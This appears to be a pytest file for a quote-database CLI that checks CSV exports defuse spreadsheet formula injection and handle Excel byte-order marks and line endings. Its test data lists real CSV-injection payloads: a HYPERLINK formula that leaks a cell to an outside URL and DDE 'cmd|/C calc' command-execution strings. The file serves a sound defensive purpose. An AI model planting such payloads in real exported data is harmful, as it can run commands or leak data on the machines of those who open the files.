"""CSV injection: cells a spreadsheet would run as formulas are written as text (OWASP), and
the byte-order mark and line ends are a choice (``--excel``), not an accident."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from quotebank.cli.app import app
from quotebank.formats.tables import FORMULA_STARTS, neutralise, write_csv, write_table
from quotebank.records import ArticleInput, FoundQuote, QuoteRow
from quotebank.storage import articles, connect

DANGEROUS = [
    '=HYPERLINK("http://example.com/x?leak="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROW = QuoteRow(
    quote_id=1, date=date(2025, 8, 15), speaker="Donald Trump", quote="a plain quote",
    kind="direct", cue="said", confidence=0.9, source="Fox News", outlet=None,
    article_title="Talks", url="https://www.foxnews.com/a", speaker_kind="person",
    wikidata_id=None, rule="cue", attribution_id=1, article_id=1, remark_id=1,
)  # fmt: skip


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", DANGEROUS)
def test_every_dangerous_start_is_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert not dangerous(neutralise(value))


@pytest.mark.parametrize("value", ["plain words", "'already quoted", "2025", "a=b", " =1"])
def test_other_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_quote_sheet_cells_read_back_as_text(tmp_path: Path) -> None:
    rows = [
        replace(ROW, quote=value, speaker=value, source=value, article_title=value, url=value)
        for value in DANGEROUS
    ]
    fp = io.StringIO(newline="")
    write_csv(rows, fp)
    header, *body = read(fp.getvalue())
    assert len(body) == len(DANGEROUS)
    for row, value in zip(body, DANGEROUS, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert not any(dangerous(cell) for cell in row), row
        for column in ("quote", "speaker", "source", "article_title", "url"):
            assert cells[column] == "'" + value  # the words themselves, behind a '


def test_a_lone_carriage_return_is_quoted_with_lf_line_ends() -> None:
    fp = io.StringIO(newline="")
    write_table(["a", "b"], [["one\rtwo", "x"], ["\r=1", "y"]], fp, safe=False)
    assert fp.getvalue() == 'a,b\n"one\rtwo",x\n"\r=1",y\n'
    assert read(fp.getvalue())[1:] == [["one\rtwo", "x"], ["\r=1", "y"]]


def test_raw_writes_cells_as_they_are_and_numbers_are_never_touched() -> None:
    fp = io.StringIO(newline="")
    write_table(["a", "b"], [[DANGEROUS[0], -1.5]], fp, safe=False)
    assert read(fp.getvalue())[1] == [DANGEROUS[0], "-1.5"]
    fp = io.StringIO(newline="")
    write_table(["=a", "b"], [[-1.5, "-1.5"]], fp)
    assert read(fp.getvalue()) == [["'=a", "b"], ["-1.5", "'-1.5"]]  # a number, then a text


# --- the command line -----------------------------------------------------------


@pytest.fixture
def poisoned(db_url: str) -> str:
    """An article whose quote, title and outlet are formulas."""
    text = f"Ann Lee said: “{DANGEROUS[1]}” and left."
    start = text.index(DANGEROUS[1])
    found = FoundQuote(start, start + len(DANGEROUS[1]), DANGEROUS[1], "direct",
                       speaker="Ann Lee", speaker_kind="person", cue="said")  # fmt: skip
    article = ArticleInput(text, "a.txt", title=DANGEROUS[0], source="@evil outlet",
                           published=date(2025, 8, 15))  # fmt: skip
    with connect.session_factory(connect.open_database(db_url)).begin() as session:
        articles.save_article(session, article, [found])
    return db_url


def run(*args: str) -> Result:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


def test_export_csv_file_has_no_dangerous_cell(poisoned: str, tmp_path: Path) -> None:
    out = tmp_path / "sheet.csv"
    run("export", "--csv", str(out))
    with out.open(newline="", encoding="utf-8") as fp:
        header, row = list(csv.reader(fp))
    cells = dict(zip(header, row, strict=True))
    assert (cells["quote"], cells["article_title"], cells["source"]) == (
        "'" + DANGEROUS[1],
        "'" + DANGEROUS[0],
        "'@evil outlet",
    )
    assert not any(dangerous(cell) for cell in row)


def test_export_raw_keeps_the_cells(poisoned: str) -> None:
    header, row = read(run("export", "--csv", "-", "--raw").stdout)
    cells = dict(zip(header, row, strict=True))
    assert (cells["quote"], cells["source"]) == (DANGEROUS[1], "@evil outlet")


@pytest.mark.parametrize(
    "args", [["quotes", "--format", "csv"], ["who-said", "calc", "--format", "csv"],
             ["show", "1", "--format", "csv"], ["sql", "select * from quote_sheet", "-f", "csv"]],
    ids=lambda args: args[0],
)  # fmt: skip
def test_every_csv_listing_is_neutralised(poisoned: str, args: list[str]) -> None:
    _, *rows = read(run(*args).stdout)
    assert rows and not any(dangerous(cell) for row in rows for cell in row)


def test_quotes_raw_keeps_the_cells(poisoned: str) -> None:
    _, row = read(run("quotes", "--format", "csv", "--raw").stdout)
    assert DANGEROUS[1] in row


def test_plain_csv_has_no_bom_and_lf_line_ends(poisoned: str, tmp_path: Path) -> None:
    out = tmp_path / "plain.csv"
    run("export", "--csv", str(out))
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf") and b"\r\n" not in data
    assert run("export", "--csv", "-").stdout_bytes == data  # a file and stdout alike


def test_excel_csv_has_a_bom_and_crlf_on_stdout_and_in_a_file(
    poisoned: str, tmp_path: Path
) -> None:
    out = tmp_path / "excel.csv"
    run("export", "--csv", str(out), "--excel")
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 2
    assert run("export", "--csv", "-", "--excel").stdout_bytes == data


def test_excel_and_raw_are_for_csv_only(poisoned: str) -> None:
    result = CliRunner().invoke(app, ["export", "--jsonl", "-", "--excel"])
    assert result.exit_code == 2 and "--csv only" in result.output


def test_export_help_says_which_csv_is_which() -> None:
    text = " ".join(run("export", "--help").stdout.replace("│", " ").split())
    assert "--excel" in text and "byte-order mark" in text and "CRLF" in text
    assert "--raw" in text and "formula" in text
